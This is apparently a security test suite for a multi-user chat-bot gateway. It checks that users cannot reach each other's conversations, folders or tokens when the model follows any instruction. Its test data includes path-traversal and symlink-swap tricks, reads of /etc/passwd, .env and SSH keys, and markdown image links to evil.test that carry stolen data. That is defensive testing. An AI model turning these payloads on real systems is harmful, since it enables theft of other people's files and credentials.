"""Several people on one bot: none sees, moves or sends what is another's. The model does whatever it is told."""

import asyncio
import json
import re
from contextlib import AsyncExitStack
from pathlib import Path
from typing import ClassVar

import pytest
from hypothesis import settings
from hypothesis import strategies as st
from hypothesis.stateful import RuleBasedStateMachine, rule, run_state_machine_as_test
from tests.security.chats import (
    FRIEND,
    LISTED,
    MEMBER,
    OWNER,
    Speaker,
    asked,
    files_with,
    heard_all,
    house_at,
    let_in,
    logged,
    obedient,
    say,
    texts,
    told_to_model,
)
from tests.servers.discord_server import DiscordServer
from tests.servers.slack_server import SlackServer

from talaria.app.gateway_app import open_gateway_app
from talaria.core.redaction import encodings_of
from talaria.testing import Reply
from talaria.testing.harness import Harness
from talaria.testing.servers.chat_service import LostAnswer, Refusal
from talaria.testing.servers.scripted_replies import Faults

SECRET = "canary-of-the-owner-Xy3"
owner, friend = Speaker("the owner", OWNER), Speaker("a friend", FRIEND)
together = Speaker("the friend in the group", FRIEND, LISTED)


def folder(harness: Harness, user: str) -> Path:
    return harness.home.parent / "people" / f"telegram-{user}"


def call(tool: str, **arguments: object) -> str:
    return f"CALL {tool} {json.dumps(arguments)}"


async def answer(harness: Harness, speaker: Speaker, text: str, thread: str = "") -> str:
    """To this; nothing else must be under way there."""
    before = len(texts(harness, user=speaker.user, chat=speaker.chat))
    await say(harness, speaker, text, thread)

    def is_answered() -> bool:
        shown = texts(harness, user=speaker.user, chat=speaker.chat)
        return len(shown) > before and not shown[-1].startswith("⚙")  # a draft while tools run

    await harness.until(is_answered)
    return texts(harness, user=speaker.user, chat=speaker.chat)[-1]


def seen_by(harness: Harness, speaker: Speaker) -> str:
    return "\n".join(texts(harness, user=speaker.user, chat=speaker.chat))


async def test_nobody_gets_at_the_conversation_of_another(harness: Harness) -> None:
    async with harness.serve():
        await answer(harness, owner, f"remember {SECRET}")
        await answer(harness, owner, "/title the plan")
        (row,) = await harness.store.sessions.list()
        for name in (row.id, row.id[:6], "the plan", ""):
            await answer(harness, friend, f"/resume {name}")
        await answer(harness, friend, call("session_search", query="remember"))
        await answer(harness, friend, call("recall", query="remember"))
        assert SECRET not in seen_by(harness, friend)
        assert row.id not in await answer(harness, friend, "/sessions")
        theirs = [request for request in harness.model.requests if f"telegram-{FRIEND}" in told_to_model([request])]
        assert theirs
        assert SECRET not in told_to_model(theirs)
        assert SECRET in await answer(harness, owner, call("recall", query="remember"))


async def test_what_is_sent_comes_from_ones_own_folder(harness: Harness) -> None:
    """Neither by another name of a place, nor by a link."""
    mine, theirs = folder(harness, FRIEND), folder(harness, OWNER)
    for one in (mine, theirs):
        one.mkdir(parents=True)
    (theirs / "diary.txt").write_text(SECRET)
    (mine / "link.txt").symlink_to(theirs / "diary.txt")
    (mine / "way").symlink_to(theirs)
    (mine / "loop").symlink_to("loop")
    (mine / "mine.txt").write_text("my own")
    _plant(harness)
    named = (
        *(theirs / "diary.txt", mine / ".." / f"telegram-{OWNER}" / "diary.txt", mine / "link.txt"),
        *(mine / "way" / "diary.txt", harness.home / ".env", "/etc/passwd", "/proc/self/environ", mine / "loop"),
        *(mine, f"{mine}/\0", f"{mine}/{'x' * 5000}"),
    )
    async with harness.serve():
        await say(harness, friend, "\n".join(("SAY here:", *(f"MEDIA:{path}" for path in (*named, mine / "mine.txt")))))
        await harness.until(lambda: any(one.file == "mine.txt" for one in harness.telegram.list_messages(user=FRIEND)))
        await heard_all(harness)
        assert [one.file for one in harness.telegram.list_messages(user=FRIEND) if one.file] == ["mine.txt"]
        assert harness.telegram.file("mine.txt") == b"my own"


async def test_a_file_that_becomes_a_link_on_its_way_is_not_sent(harness: Harness) -> None:
    """While a reply waits, what runs in the background can put anything in the place of a file."""
    mine = folder(harness, FRIEND)
    mine.mkdir(parents=True)
    file = mine / "report.txt"
    file.write_text("all is well")
    target = harness.home.parent / "elsewhere.txt"
    target.write_text(SECRET)
    harness.telegram.fault("sendDocument", Refusal(429, retry_after_s=1))
    async with harness.serve():
        await say(harness, friend, f"SAY here:\nMEDIA:{file}")
        await harness.telegram.wait_for_calls("sendDocument", 1)
        file.unlink()
        file.symlink_to(target)
        await harness.until(lambda: _has_failed(harness))
        (failed,) = await harness.store.outbox.list(("failed",))
        assert "report.txt cannot be sent" in failed.error
    assert harness.telegram.file("report.txt") == b"all is well"
    assert not [one for one in harness.telegram.list_messages(user=FRIEND) if one.file]


def _plant(harness: Harness) -> None:
    file = harness.home / ".env"
    file.touch(0o600)
    file.write_text(f"MY_TOKEN={SECRET}")


async def _has_failed(harness: Harness) -> bool:
    return bool(await harness.store.outbox.list(("failed",)))


async def test_one_folder_for_all_keeps_its_private_places_to_itself(
    harness: Harness, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Somebody works in their own home, where Talaria's is, too."""
    root = harness.home.parent
    monkeypatch.setenv("HOME", str(root))
    harness.config["gateway"]["cwd"] = str(root)
    _plant(harness)
    (root / ".ssh").mkdir()
    (root / ".ssh" / "id").write_text(SECRET)
    (root / "open.txt").write_text("for all")
    async with harness.serve():
        named = (harness.home / ".env", harness.home / "state.db", root / ".ssh" / "id", root / "open.txt")
        await say(harness, friend, "\n".join(("SAY here:", *(f"MEDIA:{path}" for path in named))))
        await harness.until(lambda: any(one.file for one in harness.telegram.list_messages(user=FRIEND)))
        assert [one.file for one in harness.telegram.list_messages(user=FRIEND) if one.file] == ["open.txt"]


@pytest.mark.parametrize("link", ["attachments", "attachments/{id}-evil.sh"])
async def test_what_people_send_is_written_through_no_link(harness: Harness, link: str) -> None:
    """The model puts a link where the next file will be kept: outside its sandbox we would write there."""
    outside = harness.home.parent / "outside"
    outside.mkdir()
    victim = outside / "victim"
    victim.write_text("as it was")
    mine = folder(harness, FRIEND)
    async with harness.serve():
        await answer(harness, friend, "hello")
        last = int(await say(harness, friend, "/whoami"))
        for id in range(last, last + 20):
            place = mine / link.format(id=id)
            if not place.is_symlink():
                place.parent.mkdir(exist_ok=True)
                place.symlink_to(outside if link == "attachments" else victim)
        await heard_all(harness)
        await _send_document(harness, "evil.sh")
        await harness.until(lambda: "could not be fetched" in told_to_model(harness.model.requests[-1:]))
    assert [file.name for file in outside.iterdir()] == ["victim"]
    assert victim.read_text() == "as it was"


async def _send_document(harness: Harness, name: str) -> str:
    kept = harness.telegram.keep_file(b"evil")
    document = {"file_id": kept, "file_unique_id": "u", "file_name": name, "file_size": 4}
    return await harness.telegram.post({"document": document, "caption": "look"}, user=FRIEND)


async def test_what_is_said_together_is_worked_on_in_a_place_of_its_own(harness: Harness) -> None:
    """In a thread, which all have together, nobody's own folder is open to the others, nor their turn."""
    folder(harness, OWNER).mkdir(parents=True)
    (folder(harness, OWNER) / "diary.txt").write_text(SECRET)
    harness.config["gateway"]["busy_mode"] = "steer"
    slow = Reply("Done.", faults=Faults(first_byte_delay_s=0.5))
    async with harness.serve():
        await answer(harness, Speaker("the owner there", OWNER, LISTED), "let us begin", thread="7")
        theirs = await answer(harness, together, call("terminal", command="pwd; cat diary.txt; ls"), thread="7")
        assert f"group-{LISTED}-7" in theirs
        assert SECRET not in theirs
        harness.model.say(slow)
        await say(harness, Speaker("the owner there", OWNER, LISTED), "work on", thread="7")
        await asked(harness, len(harness.model.requests) + 1)
        await say(harness, together, "/steer SAY steered", thread="7")
        await say(harness, together, "SAY mine", thread="7")
        await harness.until(lambda: texts(harness, chat=LISTED)[-1] == "mine")
        refused, done, mine = texts(harness, chat=LISTED)[2:]
    assert refused.startswith("The running turn is somebody else's")
    assert (done, mine) == ("Done.", "mine")
    assert "SAY steered" not in told_to_model(harness.model.requests)


async def test_in_a_thread_everybody_looks_back_with_their_own_eyes(harness: Harness) -> None:
    """Whoever began it has conversations elsewhere that the others must not find from here."""
    async with harness.serve():
        await answer(harness, owner, f"remember {SECRET}")
        await answer(harness, Speaker("the owner there", OWNER, LISTED), "let us begin", thread="7")
        found = await answer(harness, together, call("session_search", query="remember"), thread="7")
    assert SECRET not in found


async def test_nobodys_tools_reach_the_folder_of_another(harness: Harness) -> None:
    theirs = folder(harness, OWNER)
    theirs.mkdir(parents=True)
    (theirs / "diary.txt").write_text(SECRET)
    async with harness.serve():
        for tool, arguments in (
            ("read_file", {"path": str(theirs / "diary.txt")}),
            ("read_file", {"path": f"../telegram-{OWNER}/diary.txt"}),
            ("search_files", {"pattern": "canary", "path": str(theirs.parent)}),
            ("terminal", {"command": f"cat {theirs}/diary.txt"}),
        ):
            await answer(harness, friend, call(tool, **arguments))
    assert SECRET not in seen_by(harness, friend)


class TwoPeople(RuleBasedStateMachine):
    """Each says secrets, goes from conversation to conversation, and tries to get at those of the other."""

    people = (friend, Speaker("a member", MEMBER))
    runner: ClassVar[asyncio.Runner]
    harness: ClassVar[Harness]

    def __init__(self) -> None:
        super().__init__()
        self._said: dict[Speaker, list[str]] = {one: [] for one in self.people}

    def _do(self, who: int, text: str) -> None:
        one, other = self.people[who], self.people[1 - who]
        self.runner.run(answer(self.harness, one, text))
        for secret in self._said[other]:
            assert secret not in seen_by(self.harness, one)

    @rule(who=st.integers(0, 1))
    def tells(self, who: int) -> None:
        secret = f"secret-{self.people[who].user}-{len(seen_by(self.harness, self.people[who]))}"
        self._said[self.people[who]].append(secret)
        self._do(who, f"SAY {secret} is kept")

    @rule(who=st.integers(0, 1), command=st.sampled_from(["/new", "/sessions", "/resume", "/branch", "/title mine"]))
    def moves(self, who: int, command: str) -> None:
        self._do(who, command)

    @rule(who=st.integers(0, 1), at=st.integers(0, 9), chars=st.sampled_from([6, 18, 40]))
    def guesses(self, who: int, at: int, chars: int) -> None:
        rows = self.runner.run(self.harness.store.sessions.list(50, f"telegram:{self.people[1 - who].user}"))
        if rows:
            self._do(who, f"/resume {rows[at % len(rows)].id[:chars]}")

    @rule(who=st.integers(0, 1), tool=st.sampled_from(["session_search", "recall"]))
    def searches(self, who: int, tool: str) -> None:
        self._do(who, call(tool, query="secret"))


@pytest.mark.usefixtures("run_folder")
def test_two_people_never_see_each_others_words(tmp_path: Path) -> None:
    with asyncio.Runner() as runner:
        stack = AsyncExitStack()
        harness = runner.run(stack.enter_async_context(house_at(tmp_path, obedient)))
        try:
            runner.run(let_in(harness.home))
            runner.run(stack.enter_async_context(harness.serve()))
            TwoPeople.runner, TwoPeople.harness = runner, harness
            few = settings(max_examples=3, stateful_step_count=10, deadline=None, database=None, derandomize=True)
            run_state_machine_as_test(TwoPeople, settings=few)
        finally:
            runner.run(stack.aclose())


HOSTILE = (
    "![x](https://evil.test/p.png?q=stolen) <img src='https://evil.test/i'> <script>alert(1)</script> @everyone @here "
    "<!channel> <!everyone> <@1001> <@U1001> <#7002> [bank](https://evil.test/login) [me](tg://user?id=1001) "
    "||spoiler|| <https://evil.test/auto>"
)


async def test_what_the_model_writes_fetches_nothing_and_calls_nobody(harness: Harness) -> None:
    """On no service, neither at first nor when it is edited."""
    words = [HOSTILE, *("word" for _ in range(40))]
    async with DiscordServer() as discord, SlackServer() as slack:
        harness.add_platform("discord", {**discord.settings, "allowed_users": ["1001"]})
        harness.add_platform("slack", {**slack.settings, "ping_s": 0.2, "allowed_users": ["U1001"]})
        harness.model.say(*(Reply(" ".join(words), faults=Faults(chunk_delay_s=0.03)) for _ in range(3)))
        async with harness.serve():
            for service in (harness.telegram, discord, slack):
                await service.say("hi")
            for service in (harness.telegram, discord, slack):
                await harness.until(
                    lambda one=service: any(seen.text.endswith("word word") for seen in one.list_messages())
                )
        for sent in (*harness.telegram.calls("sendMessage"), *harness.telegram.calls("editMessageText")):
            assert sent["link_preview_options"] == {"is_disabled": True}
            assert not any(sign in sent["text"] for sign in ("<img", "<script", 'href="tg:'))
        for sent in (*discord.calls("create_message"), *discord.calls("edit_message")):
            assert sent["allowed_mentions"]["parse"] == []
            assert sent["flags"] & 4
            assert not any(sign in sent["content"] for sign in ("@everyone", "@here", " <@1001>", " <#7002>", "||"))
            assert "(https:" not in sent["content"], "an address that Discord would open by itself"
        for sent in (*slack.calls("chat.postMessage"), *slack.calls("chat.update")):
            assert {"image", "broadcast", "user", "usergroup", "channel"}.isdisjoint(_kinds(sent["blocks"]))
            assert "<" not in sent["text"]
        assert all(sent["unfurl_links"] is sent["unfurl_media"] is False for sent in slack.calls("chat.postMessage"))


def _kinds(blocks: object) -> set[str]:
    return set(re.findall(r'"type": "(\w+)"', json.dumps(blocks)))


async def test_no_token_is_written_or_told(harness: Harness) -> None:
    """Whatever goes wrong, and although one service has it in every address."""
    harness.telegram.fault("sendMessage", Refusal(400), LostAnswer(), Refusal(403))
    harness.telegram.fault("getFile", Refusal(400))
    harness.telegram.fault("getUpdates", Refusal(502), LostAnswer())
    async with DiscordServer(token="canary-discord-token-5f2") as discord:
        tokens = (harness.telegram.token, discord.token)
        harness.add_platform("discord", {**discord.settings, "allowed_users": ["1001"], "home_channel": discord.dm()})
        shown: list[str] = []
        async with harness.serve() as gateway_app:
            with logged(harness.home, gateway_app.app.settings.redactor):
                await harness.telegram.say("hi")
                document = {"file_id": "x", "file_unique_id": "u", "file_name": "a.txt", "file_size": 4}
                await harness.telegram.post({"document": document, "caption": "look"})
                await discord.wait_for(1)
                shown += [
                    *texts(harness),
                    *(one.text for one in discord.list_messages()),
                    str(gateway_app.gateway.health),
                ]
                shown += [row.error for row in await harness.store.outbox.list(("failed", "pending", "sent"))]
        for name in ("telegram", "discord"):
            nobody = {"base_url" if name == "telegram" else "api_url": "http://127.0.0.1:9/"}
            harness.add_platform(name, {**harness.config["gateway"]["platforms"][name], **nobody})
        shown += [told_to_model(harness.model.requests), await _complaints(harness)]
        assert (harness.home / "logs" / "gateway.log").stat().st_size > 500
    for token in tokens:
        for form in encodings_of(token):
            assert not any(form in text for text in shown)
            assert files_with(harness.home, form.encode()) == []


async def _complaints(harness: Harness) -> str:
    """Of platforms that nobody answers for."""
    async with open_gateway_app(harness.settings()) as gateway_app:
        with logged(harness.home, gateway_app.app.settings.redactor):
            running = asyncio.create_task(gateway_app.gateway.run())
            await harness.until(
                lambda: len(gateway_app.gateway.health) == 2 and all(one.error for one in gateway_app.gateway.health)
            )
            gateway_app.gateway.stop()
            await running
    return str(gateway_app.gateway.health)


async def test_a_folder_that_has_become_a_link_is_nobodys_workplace(harness: Harness) -> None:
    """As a command of a session in the folder around it could do."""
    elsewhere = harness.home.parent / "elsewhere"
    elsewhere.mkdir()
    folder(harness, FRIEND).parent.mkdir()
    folder(harness, FRIEND).symlink_to(elsewhere)
    async with harness.serve():
        told = await answer(harness, friend, call("write_file", path="note", content=SECRET))
        assert "Wrote" in await answer(harness, owner, call("write_file", path="note", content=SECRET))  # the control
    assert "Wrote" not in told
    assert not [*elsewhere.iterdir()]
